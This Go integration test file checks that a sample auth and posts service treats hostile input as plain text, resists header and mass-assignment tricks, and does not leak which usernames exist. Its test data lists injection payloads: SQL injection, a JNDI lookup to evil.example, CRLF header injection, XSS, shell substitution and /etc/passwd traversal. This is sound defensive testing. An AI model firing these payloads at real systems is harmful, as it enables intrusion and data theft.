package integration_test

import (
	"context"
	"encoding/json"
	"net/http"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/neuroglia-go/neuroglia/auth"
	"github.com/neuroglia-go/neuroglia/auth/password"
	"github.com/neuroglia-go/neuroglia/auth/password/passwordtest"
	"github.com/neuroglia-go/neuroglia/data/query"
	"github.com/neuroglia-go/neuroglia/hosting/hosttest"
	"github.com/neuroglia-go/neuroglia/internal/testenv"
	"github.com/neuroglia-go/neuroglia/samples/auth/application/content"
	"github.com/neuroglia-go/neuroglia/samples/auth/application/identity"
)

// hostile are texts that mean something to a database, a header, a page or a shell.
var hostile = []string{
	"'; DROP TABLE posts; --", `" OR ""="`, "' OR '1'='1", "1; SELECT pg_sleep(10)", `\'; DELETE FROM users; --`, "%' ESCAPE '\\",
	"$1", "${jndi:ldap://evil.example}", "a\r\nSet-Cookie: admin=1", "<script>alert(1)</script>", "`id`", "../../etc/passwd", "{\"$ne\":null}",
}

func TestHostileTextIsOnlyText(t *testing.T) {
	t.Parallel()
	for name, url := range map[string]func(t *testing.T) string{
		"sqlite":   func(t *testing.T) string { return "sqlite:" + filepath.Join(t.TempDir(), "test.db") },
		"postgres": func(t *testing.T) string { return testenv.Postgres(t) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			app := serve(t, "AUTH_DATABASE_URL", url(t))
			bearer := register(t, app, "ada.lovelace")
			for _, text := range hostile {
				answer := app.Post("/v1/posts", object{"text_content": text}).Header("Authorization", bearer).Expect(http.StatusCreated)
				var got content.PostDTO
				app.Get(answer.Header("Location")).Header("Authorization", bearer).Expect(http.StatusOK).JSON(&got)
				require.Equal(t, text, got.TextContent)

				var list content.List[content.PostDTO]
				app.Get("/v1/posts").Query("owner_id", text).Header("Authorization", bearer).Expect(http.StatusOK).JSON(&list)
				require.Zero(t, list.Total, text)
				app.Get("/v1/posts").Query("sort_field", text).Header("Authorization", bearer).Expect(http.StatusBadRequest).Problem("invalid_sort_field")
				users := app.SubApp("auth")
				users.Post("/api/v1/account/signup", object{"username": text, "password": "correct horse"}).Expect(http.StatusBadRequest).Problem("domain_rule")
				users.Post("/api/v1/account/login", object{"username": text, "password": text + "long enough"}).Expect(http.StatusBadRequest).Problem("domain_rule")
				users.Post("/api/v1/auth/sessions/refresh", object{"session_token": text}).Expect(http.StatusUnauthorized).Problem("invalid_session")
			}
			posts, err := hosttest.Resolve[content.Posts](app).Find(t.Context(), query.All().Limit(1))
			require.NoError(t, err)
			require.Equal(t, len(hostile), posts.Total, "everything is still there")
		})
	}
}

func TestNoHeaderOfAnAnswerIsWrittenByTheCaller(t *testing.T) {
	t.Parallel()
	app := serve(t)
	for _, header := range []string{"X-Request-Id", "X-Correlation-Id", "Traceparent", "Authorization", "Cookie", "Origin", "X-Forwarded-For", "X-Forwarded-Proto"} {
		answer := app.Get("/v1/posts").Header(header, "a\r\nSet-Cookie: admin=1").Send()
		for name, values := range answer.Headers {
			require.NotEqual(t, "Set-Cookie", name, header)
			require.NotContains(t, strings.Join(values, ""), "admin=1", "%s comes back in %s", header, name)
		}
	}
}

func TestACallerSetsNothingButWhatIsAskedFor(t *testing.T) {
	t.Parallel()
	app := serve(t)
	users := app.SubApp("auth")
	sent := object{
		"username": "mallory", "password": "correct horse", "first_name": "M", "last_name": "M",
		"role": "super_admin", "id": "00000000-0000-7000-8000-000000000001", "is_active": true, "permissions": []string{"users:manage"}, "password_hash": "x",
	}
	users.Post("/api/v1/account/signup", sent).Send()
	users.Post("/api/v1/registration", sent).Send()
	users.Post("/api/v1/account/signup", object{"username": "mallory", "password": "correct horse"}).Send()
	found, err := hosttest.Resolve[identity.Users](app).Find(t.Context(), query.All())
	require.NoError(t, err)
	require.Len(t, found.Items, 1)
	state := found.Items[0].State()
	require.Equal(t, "user", string(state.Role))
	require.NotEqual(t, sent["id"], state.ID)

	bearer := register(t, app, "ada.lovelace")
	app.Post("/v1/posts", object{"text_content": "x", "owner_id": state.ID, "id": sent["id"], "created_at": "2001-01-01T00:00:00Z"}).Header("Authorization", bearer).Send()
	posts, err := hosttest.Resolve[content.Posts](app).Find(t.Context(), query.All())
	require.NoError(t, err)
	for _, post := range posts.Items {
		require.NotEqual(t, state.ID, post.State().OwnerID)
		require.NotEqual(t, sent["id"], post.State().ID)
	}
}

// counting is a hasher that costs nothing and counts what it is asked.
type counting struct {
	identity.Hasher
	verified atomic.Int64
}

func (c *counting) Verify(ctx context.Context, password auth.Secret, hash string) (bool, error) {
	c.verified.Add(1)
	return c.Hasher.Verify(ctx, password, hash)
}

func TestNobodyFindsOutByASignInWhoIsThere(t *testing.T) {
	t.Parallel()
	hasher, err := password.New(password.Config{Pepper: passwordtest.Pepper(), Scheme: passwordtest.SHA256{}})
	require.NoError(t, err)
	counted := &counting{Hasher: hasher}
	app := serveWith(t, []hosttest.Option{hosttest.Override[identity.Hasher](counted)})
	register(t, app, "somebody")
	for _, path := range []string{"/api/v1/account/login", "/api/v1/auth/sessions"} {
		answers := map[string]object{}
		for _, name := range []string{"somebody", "nobody"} {
			before := counted.verified.Load()
			answer := app.SubApp("auth").Post(path, object{"username": name, "password": "a wrong horse"}).Expect(http.StatusUnauthorized)
			require.EqualValues(t, 1, counted.verified.Load()-before, "as long as for a user who is there")
			var body object
			require.NoError(t, json.Unmarshal(answer.Body, &body))
			delete(body, "traceId")
			answers[name] = body
		}
		require.Equal(t, answers["somebody"], answers["nobody"])
	}
}
